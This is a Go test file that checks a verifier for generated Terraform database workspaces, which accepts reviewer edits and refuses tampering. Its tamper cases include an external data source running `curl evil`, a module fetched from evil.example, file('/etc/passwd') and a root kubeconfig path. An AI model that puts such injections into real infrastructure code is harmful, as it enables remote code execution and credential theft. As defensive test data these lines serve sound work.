package templates_test

import (
	"strings"
	"testing"
	"testing/fstest"

	"github.com/clustropg/clustro/request"
	"github.com/clustropg/clustro/templates"
)

// workspaceFS puts a rendered workspace in an in-memory file system.
func workspaceFS(ws templates.Workspace) fstest.MapFS {
	fsys := fstest.MapFS{}
	for name, b := range ws.Files {
		fsys[ws.Dir+"/"+name] = &fstest.MapFile{Data: b, Mode: 0o644}
	}
	return fsys
}

func prodLedger(t *testing.T) (*templates.Renderer, request.DatabaseRequest, templates.Workspace) {
	cfg := loadConfig(t, "")
	req, ws := renderCase(t, cfg, goldenCases[2].req) // prod/billing/ledger, M, daily
	return cfg, req, ws
}

func edit(t *testing.T, src, old, new string) string {
	t.Helper()
	if !strings.Contains(src, old) {
		t.Fatalf("test edit: %q not found in main.tf", old)
	}
	return strings.Replace(src, old, new, 1)
}

// reviewerEdits are the changes a reviewer may make to main.tf, each with
// the request it describes.
var reviewerEdits = []struct {
	name       string
	old, new   string
	wantChange func(*request.Spec)
}{
	{"size M to L", `size             = "M"`, `size             = "L"`, func(s *request.Spec) { s.Size = request.SizeL }},
	{"more instances", `instances        = 3`, `instances        = 5`, func(s *request.Spec) { s.Instances = 5 }},
	{"hourly backups", `backup_schedule  = "daily"`, `backup_schedule  = "hourly"`, func(s *request.Spec) { s.Backups.Schedule = request.Hourly }},
	{"retention", `backup_retention = "30d"`, `backup_retention = "6w"`, func(s *request.Spec) { s.Backups.Retention = "6w" }},
	{"storage added", `  logical_backup`, "  storage = \"80Gi\"\n  logical_backup", func(s *request.Spec) { s.Storage = "80Gi" }},
	{"extra database", `databases        = []`, `databases        = ["reports"]`, func(s *request.Spec) { s.Databases = []string{"reports"} }},
	{"pg 16 as a heredoc-free literal", `postgres_version = 17`, `postgres_version = 16`, func(s *request.Spec) { s.PostgresVersion = 16 }},
	{"backup hour", `backup_hour      = 3`, `backup_hour      = 22`, func(s *request.Spec) { s.Backups.Hour = intp(22) }},
	{"logical backup on", `logical_backup   = false`, `logical_backup   = true`, func(s *request.Spec) { s.LogicalBackup = true }},
}

// TestVerifyAcceptsReviewerEdits: the values a reviewer may change come
// back in the request Verify returns, when catalog-info.yaml is the entity
// clustro render writes for the edited request.
func TestVerifyAcceptsReviewerEdits(t *testing.T) {
	cfg, req, ws := prodLedger(t)
	for _, tc := range reviewerEdits {
		t.Run(tc.name, func(t *testing.T) {
			want := req.Spec
			tc.wantChange(&want)
			fsys := workspaceFS(ws)
			main := ws.Dir + "/main.tf"
			fsys[main].Data = []byte(edit(t, string(fsys[main].Data), tc.old, tc.new))
			fsys[ws.Dir+"/catalog-info.yaml"].Data = renderEntity(t, cfg, req.ID, want)
			got, err := cfg.VerifyFS(fsys, ws.Dir, ws.Dir)
			if err != nil {
				t.Fatalf("a reviewer edit was refused:\n%v", err)
			}
			assertSameSpec(t, got, want)
		})
	}
}

// TestVerifyRefusesTampering: anything Render could not have written is
// refused with a message that says what and where.
func TestVerifyRefusesTampering(t *testing.T) {
	cfg, req, ws := prodLedger(t)
	const modLine = `  name             = "ledger"`
	// The state keys are the renderer's to name: read them from its output.
	other := req.Spec
	other.Name = "other"
	stateLine, ownState := stateKey(t, ws.Files["main.tf"])
	_, otherState := stateKey(t, renderWorkspace(t, cfg, "", other).Files["main.tf"])
	tests := []struct {
		name      string
		mutate    func(t *testing.T, fsys fstest.MapFS, main string) string
		wantInMsg []string
	}{
		{"added resource", appendHCL(`resource "null_resource" "x" {}`), []string{`main.tf:`, `block resource "null_resource" "x" is not allowed`}},
		{"data external", appendHCL(`data "external" "pwn" { program = ["sh", "-c", "curl evil"] }`), []string{`block data "external" "pwn" is not allowed`}},
		{"new provider", appendHCL(`provider "aws" { region = "us-east-1" }`), []string{`block provider "aws" is not allowed`}},
		{"provider alias", appendHCL(`provider "kubectl" { alias = "other" }`), []string{`duplicate block provider "kubectl"`}},
		{"locals", appendHCL(`locals { x = 1 }`), []string{`block locals is not allowed`}},
		{"variable", appendHCL(`variable "x" {}`), []string{`block variable "x" is not allowed`}},
		{"import block", appendHCL("import {\n  to = x.y\n  id = \"z\"\n}"), []string{`block import is not allowed`}},
		{"function call", replace(`size             = "M"`, `size             = upper("m")`), []string{`size: function call upper() is not allowed`}},
		{"file() call", replace(`backup_retention = "30d"`, `backup_retention = file("/etc/passwd")`), []string{`function call file() is not allowed`}},
		{"reference", replace(`instances        = 3`, `instances        = var.n`), []string{`instances: a reference is not allowed`}},
		{"interpolation", replace(`name             = "ledger"`, `name             = "${"led"}ger"`), []string{`name: interpolation is not allowed`}},
		{"conditional", replace(`instances        = 3`, `instances        = true ? 3 : 1`), []string{`instances: only a literal value is allowed`}},
		{"module source", replace(`source = "../../../../modules/cnpg-database"`, `source = "git::https://evil.example/mod.git"`), []string{`source must be "../../../../modules/cnpg-database"`}},
		{"module count", replace(modLine, "  count = 2\n"+modLine), []string{`argument count is not allowed`}},
		{"module providers", replace(modLine, "  providers = {}\n"+modLine), []string{`argument providers is not allowed`}},
		{"module depends_on", replace(modLine, "  depends_on = []\n"+modLine), []string{`argument depends_on is not allowed`}},
		{"unknown argument", replace(modLine, "  image = \"evil/postgres:1\"\n"+modLine), []string{`argument image is not allowed`}},
		{"nested block in module", replace(modLine, "  lifecycle {\n  }\n"+modLine), []string{`nested block lifecycle is not allowed`}},
		{"backend changed", replace(`namespace     = "clustro-system"`, `namespace     = "kube-system"`), []string{`backend kubernetes: namespace must be "clustro-system"`}},
		{"backend type", replace(`backend "kubernetes"`, `backend "local"`), []string{`backend "local" is not allowed`}},
		{"backend config_path", replace(stateLine, stateLine+"\n    config_path = \"/root/.kube/config\""), []string{`attribute config_path is not allowed`}},
		{"state of another database", replace(stateLine, strings.Replace(stateLine, ownState, otherState, 1)), []string{`secret_suffix must be "` + ownState + `"`}},
		{"provider setting", replace(`apply_retry_count = 3`, "apply_retry_count = 3\n  config_path = \"/tmp/kubeconfig\""), []string{`provider "kubectl": attribute config_path is not allowed`}},
		{"cloud block", replace(`required_version = ">= 1.5.0"`, "required_version = \">= 1.5.0\"\n  cloud {\n  }"), []string{`block cloud inside terraform is not allowed`}},
		{"provider version", replace(`version = "1.19.0"`, `version = "1.0.0"`), []string{`required_providers: kubectl must be`}},
		{"output changed", replace(`value = module.database.rw_host`, `value = module.database.app_secret_name`), []string{`output "rw_host": value must be exactly module.database.rw_host`}},
		{"output removed", replace("output \"grafana_url\" {\n  value = module.database.grafana_url\n}\n", ""), []string{`output "grafana_url" is missing`}},
		{"extra output", appendHCL(`output "password" { value = "x" }`), []string{`block output "password" is not allowed`}},
		{"renamed database", replace(`name             = "ledger"`, `name             = "ledger2"`), []string{`name is "ledger2" but the workspace directory says "ledger"`}},
		{"moved team", replace(`team             = "billing"`, `team             = "payments"`), []string{`team is "payments" but the workspace directory says "billing"`}},
		{"namespace", replace(`namespace        = "billing-prod"`, `namespace        = "kube-system"`), []string{`namespace must be "billing-prod"`}},
		{"policy: one instance in prod", replace(`instances        = 3`, `instances        = 1`), []string{`instances: 1 is not allowed in prod; allowed there: 3 to 9`}},
		{"policy: backups off in prod", replace("  backup_schedule  = \"daily\"\n  backup_hour      = 3\n  backup_retention = \"30d\"\n", "  backup_schedule = \"none\"\n"), []string{`backup_schedule: prod requires backups`}},
		{"empty storage", replace(`  logical_backup`, "  storage          = \"\"\n  logical_backup"), []string{`storage = "" is not something clustro render writes: remove it`}},
		{"empty backup schedule", replace(`backup_schedule  = "daily"`, `backup_schedule  = ""`), []string{`backup_schedule: "" is not a schedule`}},
		{"argument left to the module's default", replace("  logical_backup   = false\n", ""), []string{`logical_backup is missing: clustro render writes logical_backup = false`}},
		{"databases left to the module's default", replace("  databases        = []\n", ""), []string{`databases is missing: clustro render writes databases = []`}},
		{"wrong type", replace(`instances        = 3`, `instances        = "3"`), []string{`instances must be a whole number`}},
		{"fractional", replace(`instances        = 3`, `instances        = 3.5`), []string{`instances must be a whole number`}},
		{"syntax error", replace(`module "database" {`, `module "database" {{`), []string{`main.tf:`}},
		{"extra .tf file", addFile("evil.tf", `data "external" "x" {}`), []string{`evil.tf: unexpected Terraform file`}},
		{"tf.json file", addFile("override.tf.json", `{}`), []string{`override.tf.json: unexpected Terraform file`}},
		{"tfvars", addFile("terraform.tfvars", `x = 1`), []string{`terraform.tfvars: unexpected file`}},
		{".terraform dir", addFile(".terraform/modules/modules.json", `{}`), []string{`.terraform: unexpected directory`}},
		{"local module dir", addFile("mod/main.tf", ``), []string{`mod: unexpected directory`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fsys := workspaceFS(ws)
			main := ws.Dir + "/main.tf"
			fsys[main].Data = []byte(tc.mutate(t, fsys, string(fsys[main].Data)))
			vs := mustRefuse(t, cfg, fsys, ws.Dir, tc.wantInMsg)
			for _, v := range vs {
				if !strings.HasPrefix(v.File, ws.Dir+"/") {
					t.Errorf("violation %q does not name its file", v)
				}
			}
		})
	}
}

// TestVerifyReportsLines: violations point at the offending line.
func TestVerifyReportsLines(t *testing.T) {
	cfg, _, ws := prodLedger(t)
	fsys := workspaceFS(ws)
	main := ws.Dir + "/main.tf"
	src := string(fsys[main].Data)
	line := strings.Count(src, "\n") + 2
	fsys[main].Data = []byte(src + "\n" + `data "external" "x" {}` + "\n")
	_, err := cfg.VerifyFS(fsys, ws.Dir, ws.Dir)
	want := ws.Dir + "/main.tf:" + itoa(line) + ": block data"
	if err == nil || !strings.Contains(err.Error(), want) {
		t.Fatalf("got %v, want a violation starting %q", err, want)
	}
}

// TestVerifyPolicyFromConfig: a workspace valid under one platform config is
// refused under another: policy is the platform's, not the code's.
func TestVerifyPolicyFromConfig(t *testing.T) {
	cfg := loadConfig(t, "")
	_, ws := renderCase(t, cfg, request.DatabaseRequest{Spec: request.Spec{Name: "big", Team: "data", Environment: "dev", Size: request.SizeL}})
	fsys := workspaceFS(ws)
	main := ws.Dir + "/main.tf"
	fsys[main].Data = []byte(edit(t, string(fsys[main].Data), `size             = "L"`, `size             = "XL"`))
	_, err := cfg.VerifyFS(fsys, ws.Dir, ws.Dir)
	if err == nil || !strings.Contains(err.Error(), "size: XL is not allowed in dev; allowed there: S, M, L") {
		t.Fatalf("XL in dev: got %v", err)
	}
}

func appendHCL(block string) func(*testing.T, fstest.MapFS, string) string {
	return func(_ *testing.T, _ fstest.MapFS, src string) string { return src + "\n" + block + "\n" }
}

func replace(old, new string) func(*testing.T, fstest.MapFS, string) string {
	return func(t *testing.T, _ fstest.MapFS, src string) string { return edit(t, src, old, new) }
}

func addFile(name, content string) func(*testing.T, fstest.MapFS, string) string {
	return func(_ *testing.T, fsys fstest.MapFS, src string) string {
		fsys["databases/prod/billing/ledger/"+name] = &fstest.MapFile{Data: []byte(content), Mode: 0o644}
		return src
	}
}
